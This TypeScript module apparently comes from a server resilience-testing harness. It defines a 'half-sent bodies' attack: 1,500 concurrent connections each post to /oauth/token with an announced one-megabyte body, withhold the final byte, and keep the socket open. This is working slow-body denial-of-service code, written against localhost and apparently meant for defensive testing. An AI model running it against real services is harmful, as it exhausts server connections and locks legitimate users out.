import { setTimeout } from 'node:timers/promises'
import type { Attack } from './attack.ts'
import { openConnection } from './open-connection.ts'

/** Connections at a time. */
const connections = 1500
/** Bytes that are announced; all but the last of them are sent. */
const announced = 1_000_000

/** Sign-ins whose bodies never end, on as many connections as are left open. */
export const attack: Attack = {
  name: 'half-sent bodies',
  async run(address, signal) {
    const part = Buffer.alloc(announced - 1, 'a')
    const head =
      'POST /oauth/token HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n' +
      `Content-Length: ${announced}\r\n\r\n`
    const one = async () => {
      while (!signal.aborted) {
        const socket = await openConnection(address, signal)
        socket.write(head)
        socket.write(part)
        while (!socket.closed && !signal.aborted) await setTimeout(100)
        // Not to measure how fast this machine opens connections and carries bytes.
        await setTimeout(10_000, undefined, { signal }).catch(() => {})
      }
    }
    await Promise.all(Array.from({ length: connections }, one))
  },
}
